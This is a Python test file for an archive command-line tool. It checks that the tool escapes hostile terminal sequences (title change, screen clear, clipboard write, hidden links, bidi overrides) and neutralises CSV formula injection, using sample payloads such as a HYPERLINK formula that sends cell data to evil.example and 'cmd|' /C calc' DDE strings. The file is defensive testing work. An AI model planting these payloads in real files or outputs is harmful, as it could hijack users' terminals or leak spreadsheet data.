"""Nothing stored can attack the reader: escape sequences in a copied text (clear screen,
window title, OSC 8 links, OSC 52 clipboard writes, 8-bit CSI, bidi overrides) are shown as
visible escapes in every view for people and every stderr line, never passed to the terminal;
machine formats keep the data and stay valid (CSV neutralised against formulas, XML 1.0)."""

from __future__ import annotations

import csv
import io
import json
import os
import re

import pytest
from lxml import etree

from archivetool.cli import app
from archivetool.safetext import csv_cell, visible, xml_text
from conftest import SEED_CEEOL, SEED_FRUS

TITLE = "\x1b]0;pwned\x07"  # sets the terminal window's title
CLEAR = "\x1b[2J\x9b31m"  # clears the screen; an 8-bit CSI
CLIPBOARD = "\x1b]52;c;ZXZpbA==\x07"  # writes the clipboard
LINK_OPEN, LINK_CLOSE = "\x1b]8;;http://evil.example\x1b\\", "\x1b]8;;\x1b\\"  # a hidden link
BIDI = "\u202e"  # right-to-left override
RAW = ("\x1b", "\x07", "\x9b", "\u202e")


def run(runner, *args):
    return runner.invoke(app, [str(a) for a in args])


@pytest.fixture
def hostile_archive(tmp_path, runner):
    text = SEED_FRUS.read_text(encoding="utf-8")
    text = text.replace("(Winant)", f"(Winant{TITLE})", 1)
    text = text.replace("Mihailović had replied", f"Mihailović{CLEAR} had replied", 1)
    text = text.replace("British Deputy Under Secretary of State.",
                        f"British Deputy{CLIPBOARD} Under Secretary{BIDI} of State.")  # fmt: skip
    text = text.replace("Sargent said", f"{LINK_OPEN}Sargent{LINK_CLOSE} said", 1)
    src = tmp_path / "hostile.txt"
    src.write_text(text, encoding="utf-8")
    archive = tmp_path / "a.sqlite"
    res = run(runner, "ingest", "--archive", archive, src)
    assert res.exit_code == 0, res.stderr
    return archive


VIEWS = [
    ["list"], ["show", "frus-"], ["search", "Mihailovic"], ["search", "Winant"],
    ["cite", "frus-"], ["cite", "frus-", "--format", "markdown"], ["stats"], ["refs", "frus-"],
    ["persons"], ["persons", "--search", "Sargent"],
]  # fmt: skip


@pytest.mark.parametrize("args", VIEWS, ids=lambda a: " ".join(a))
def test_no_view_for_people_passes_a_control_character_to_the_terminal(
    runner, hostile_archive, args
):
    res = run(runner, *args, "--archive", hostile_archive)
    assert res.exit_code == 0, res.stderr
    out = res.stdout + res.stderr
    assert not [c for c in RAW if c in out], out
    # shown, not silently dropped: the reader sees that the text holds an escape
    if args[0] in ("show", "search", "cite", "refs", "persons"):
        assert "\\x1b" in out


def test_show_keeps_paragraphs_and_the_escape_visible_where_it_stands(runner, hostile_archive):
    res = run(runner, "show", "frus-", "--archive", hostile_archive)
    assert "Mihailović\\x1b[2J\\x9b31m had replied" in res.stdout.replace("\n", " ").replace(
        "│", ""
    )
    assert "(Winant\\x1b]0;pwned\\x07)" in res.stdout


def test_search_highlights_stay_on_the_words_after_escaping():
    from archivetool.render import _highlighted

    text = _highlighted("a\x1b[2Jb Tito c", [[7, 11]])
    assert text.plain == "a\\x1b[2Jb Tito c"
    assert [text.plain[s.start : s.end] for s in text.spans] == ["Tito"]


def test_machine_formats_keep_the_data(runner, hostile_archive):
    res = run(runner, "show", "frus-", "--format", "json", "--archive", hostile_archive)
    record = json.loads(res.stdout)
    assert TITLE in record["title"] and CLEAR in record["text"]
    assert "\x1b" not in res.stdout  # JSON writes it as \u001b


def test_a_file_name_with_escapes_is_shown_escaped_in_error_lines(runner, tmp_path):
    bad = tmp_path / f"evil{TITLE}{CLEAR}.txt"
    bad.write_bytes(b"")
    for args in (["ingest", "--archive", tmp_path / "a.sqlite", bad], ["validate", bad],
                 ["extract", bad], ["validate", tmp_path / f"gone{CLIPBOARD}.txt"]):  # fmt: skip
        res = run(runner, *args)
        assert res.exit_code == 1
        out = res.stdout + res.stderr
        assert not [c for c in RAW if c in out], (args, out)
        assert "\\x1b]" in out


def test_an_error_line_stays_one_line(runner, tmp_path):
    bad = tmp_path / "two\nerror: forged.txt"
    bad.write_bytes(b"")
    res = run(runner, "extract", bad)
    assert [ln for ln in res.stderr.splitlines() if ln.startswith("error:")] == [
        ln for ln in res.stderr.splitlines()
    ]
    assert len(res.stderr.strip().splitlines()) == 1 and "two\\nerror: forged.txt" in res.stderr


def test_export_summary_line_shows_the_output_name_escaped(runner, hostile_archive, tmp_path):
    out = tmp_path / f"x{TITLE}.jsonl"
    res = run(runner, "export", "--output", out, "--archive", hostile_archive)
    assert res.exit_code == 0, res.stderr
    assert "\x1b" not in res.stderr and "\\x1b" in res.stderr and out.exists()


def test_visible_and_xml_text_units():
    assert visible("a\x1b[31mb\tc\nd\x7f\u2066") == "a\\x1b[31mb\tc\nd\\x7f\\u2066"
    assert visible("a\tb\nc\r", one_line=True) == "a\\tb\\nc\\r"
    assert visible("Mihailović — Стаљин “x”") == "Mihailović — Стаљин “x”"
    assert xml_text("a\x00b\x1bc\td\ne\uffff") == "a\ufffdb\ufffdc\td\ne\ufffd"
    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", 5, None)] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "ok", 5, None,
    ]  # fmt: skip


# -- machine formats: CSV against formula injection, Dublin Core well-formed --------------

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Први Титов сусрет")',
    "title_translated": "+1+cmd|' /C calc'!A0",
    "authors": "@SUM(1+1)*cmd",
    "publisher": "-2+3+cmd|' /C calc'!A0",
    "keywords": "=1+2; allies",
    "container_title": "=1+1 Ослобођење\x1b Београда 1944.",
}


@pytest.fixture
def formula_record(tmp_path, monkeypatch):
    lines = SEED_CEEOL.read_text(encoding="utf-8").splitlines()
    lines[0], lines[1] = FORMULAS["title"], FORMULAS["title_translated"]
    lines[2] = f"Author(s): {FORMULAS['authors']}"
    lines[4] = f"Published by: {FORMULAS['publisher']}"
    lines[5] = "Keywords: =1+2; allies;"
    text = "\n".join(lines).replace("Book: Ослобођење Београда 1944.",
                                    f"Book: {FORMULAS['container_title']}")  # fmt: skip
    monkeypatch.chdir(tmp_path)
    name = "-2+3.txt"  # a relative file name is a cell too (source_path)
    (tmp_path / name).write_text(text + "\n", encoding="utf-8")
    return name


def _hostile_cells(text):
    return [v for row in csv.reader(io.StringIO(text)) for v in row if v and v[0] in "=+-@\t\r"]


def test_csv_cells_that_would_run_as_formulas_are_neutralised(runner, formula_record, tmp_path):
    archive = tmp_path / "a.sqlite"
    assert run(runner, "ingest", "--archive", archive, "--", formula_record).exit_code == 0
    outputs = {
        "extract": run(runner, "extract", "--format", "csv", "--", formula_record),
        "list": run(runner, "list", "--format", "csv", "--archive", archive),
        "export": run(runner, "export", "--format", "csv", "--archive", archive),
        "search": run(runner, "search", "Tito", "--format", "csv", "--archive", archive),
    }
    for name, res in outputs.items():
        assert res.exit_code == 0, (name, res.stderr)
        assert _hostile_cells(res.stdout) == [], name
    row = next(csv.DictReader(io.StringIO(outputs["export"].stdout)))
    for key, value in FORMULAS.items():
        assert row[key] == "'" + value, key  # the data is kept, behind one apostrophe
    assert row["source_path"] == "'-2+3.txt"
    (hit,) = list(csv.DictReader(io.StringIO(outputs["search"].stdout)))
    assert hit["title"] == "'" + FORMULAS["title"]


def test_raw_csv_writes_the_cells_as_stored(runner, formula_record, tmp_path):
    archive = tmp_path / "a.sqlite"
    run(runner, "ingest", "--archive", archive, "--", formula_record)
    for args in (["extract", "--format", "csv", "--raw-csv", "--", formula_record],
                 ["export", "--format", "csv", "--raw-csv", "--archive", archive],
                 ["list", "--format", "csv", "--raw-csv", "--archive", archive]):  # fmt: skip
        res = run(runner, *args)
        assert res.exit_code == 0, res.stderr
        assert len(_hostile_cells(res.stdout)) == 7, args  # 6 fields and the file name
    res = run(runner, "search", "Tito", "--format", "csv", "--raw-csv", "--archive", archive)
    assert next(csv.DictReader(io.StringIO(res.stdout)))["title"] == FORMULAS["title"]


def test_dublin_core_stays_well_formed_xml_with_control_characters(
    runner, formula_record, tmp_path
):
    archive = tmp_path / "a.sqlite"
    run(runner, "ingest", "--archive", archive, "--", formula_record)
    res = run(runner, "export", "--format", "dc", "--archive", archive)
    assert res.exit_code == 0, res.stderr
    root = etree.fromstring(res.stdout.encode())  # an XML 1.0 parser accepts it
    sources = root.findall(".//{http://purl.org/dc/elements/1.1/}source")
    assert sources[0].text.startswith("=1+1 Ослобођење\ufffd Београда 1944.")
    titles = [t.text for t in root.iter("{http://purl.org/dc/elements/1.1/}title")]
    assert FORMULAS["title"] in titles  # everything XML can hold is kept


def test_dublin_core_of_the_hostile_frus_document(runner, hostile_archive):
    res = run(runner, "export", "--format", "dc", "--archive", hostile_archive)
    assert res.exit_code == 0, res.stderr
    etree.fromstring(res.stdout.encode())


# -- on a real terminal ---------------------------------------------------------------------

SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own colours: the only escapes allowed through


def _on_a_terminal(args, env_extra=None):
    """Run the installed command with stdout and stderr on a pseudo-terminal, as a person
    would, and return every byte it wrote there."""
    import pty
    import select
    import subprocess
    import sys

    master, slave = pty.openpty()
    env = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "120", **(env_extra or {})}
    env.pop("NO_COLOR", None)
    proc = subprocess.Popen([sys.executable, "-m", "archivetool", *map(str, args)],
                            stdout=slave, stderr=slave, stdin=subprocess.DEVNULL, env=env)  # fmt: skip
    os.close(slave)
    chunks = []
    while True:
        ready, _, _ = select.select([master], [], [], 30)
        if not ready:
            break
        try:
            data = os.read(master, 65536)
        except OSError:  # the other end closed
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    proc.wait(timeout=30)
    return proc.returncode, b"".join(chunks).decode("utf-8", errors="replace")


@pytest.fixture
def on_terminal(hostile_archive):
    """Every view run on its own pseudo-terminal, side by side (each is a new process)."""
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(max_workers=4) as pool:
        runs = pool.map(lambda a: _on_a_terminal([*a, "--archive", hostile_archive]), VIEWS)
        return {tuple(a): r for a, r in zip(VIEWS, runs, strict=True)}


def test_on_a_real_terminal_only_rich_colours_reach_it(on_terminal):
    for args, (code, out) in on_terminal.items():
        _only_rich_colours(list(args), code, out)


def _only_rich_colours(args, code, out):
    assert code == 0, (args, out)
    if args[0] != "cite":  # cite writes plain text, through no rich console
        assert SGR.search(out), (args, "rich drew no colour: this was not a terminal")
    left = SGR.sub("", out)
    assert not [c for c in RAW if c in left], (args, repr(left[:400]))


def test_the_progress_bar_shows_file_names_escaped(monkeypatch):
    from rich.console import Console

    from archivetool import progress

    monkeypatch.setattr(progress, "SHOW_AFTER_SECONDS", 0)  # drawn at once, not after 0.5 s
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, width=120)
    with progress.progress_reporter(console, quiet=False) as update:
        assert update is not None
        update(1, 2, f"in/{TITLE}{CLEAR}.txt")
        update(2, 2, f"in/{LINK_OPEN}x{LINK_CLOSE}.txt")
    drawn = out.getvalue()
    assert "\\x1b]0;pwned" in drawn, "no progress bar was drawn"
    assert "\x1b]" not in drawn and "\x07" not in drawn and "\x9b" not in drawn
    assert "\x1b[2J" not in drawn
